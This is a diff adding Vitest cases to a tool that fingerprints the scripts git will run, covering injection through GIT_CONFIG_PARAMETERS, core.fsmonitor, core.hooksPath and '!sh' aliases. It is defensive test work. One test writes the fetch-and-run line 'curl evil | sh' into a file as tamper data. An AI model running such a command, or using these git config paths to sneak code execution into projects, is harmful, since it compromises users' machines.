@@ -8,6 +8,7 @@ import fs from "node:fs";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { consentFingerprint } from "../src/fingerprint.js";
+import { hookScripts } from "../src/hook-scripts.js";
 import { referencedScripts, scriptReferences } from "../src/script-references.js";
 import { tempDir } from "./support.js";
 
@@ -169,6 +170,41 @@ describe("what git's -c options make it run", () => {
 
   it("a -c value naming no program, and a subcommand's own -c, hash nothing", () => {
     expect(project().found("git -c user.name=me status; git commit -c x")).toEqual([]);
+  });
+});
+
+describe("what git's configuration variables make it run, as its -c options do", () => {
+  it.each([
+    [`GIT_CONFIG_PARAMETERS="'core.fsmonitor'='./x'" git status`, ["x"]],
+    [`GIT_CONFIG_PARAMETERS="'user.name'='me' 'alias.h'='!sh x'" git h`, ["x"]],
+    [
+      "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=.githooks git checkout main",
+      [".githooks/post-checkout"],
+    ],
+  ])("set before the command: %s runs %j", (command, files) => {
+    expect(project().found(command)).toEqual(files);
+  });
+
+  it.each([
+    [{ GIT_CONFIG_PARAMETERS: "'core.fsmonitor'='./x'" }, ["x"]],
+    [{ GIT_CONFIG_PARAMETERS: "'core.hooksPath=.githooks'" }, [".githooks/post-checkout"]],
+    [
+      { GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "core.hooksPath", GIT_CONFIG_VALUE_0: ".githooks" },
+      [".githooks/post-checkout"],
+    ],
+  ])("in the entry's env %j: a git command runs %j", (env, files) => {
+    const { dir } = project();
+    const scripts = hookScripts({ type: "command", command: "git status" }, dir, env);
+    expect(scripts.map((f) => path.relative(dir, f))).toEqual(files);
+  });
+
+  it("an edit of the core.fsmonitor program GIT_CONFIG_PARAMETERS names changes the consent fingerprint", () => {
+    const { dir } = project();
+    const spec = { type: "command", command: "git status" } as const;
+    const env = { GIT_CONFIG_PARAMETERS: "'core.fsmonitor'='./x'" };
+    const before = consentFingerprint("entry", spec, dir, env);
+    fs.appendFileSync(path.join(dir, "x"), "curl evil | sh\n");
+    expect(consentFingerprint("entry", spec, dir, env)).not.toBe(before);
   });
 });
 
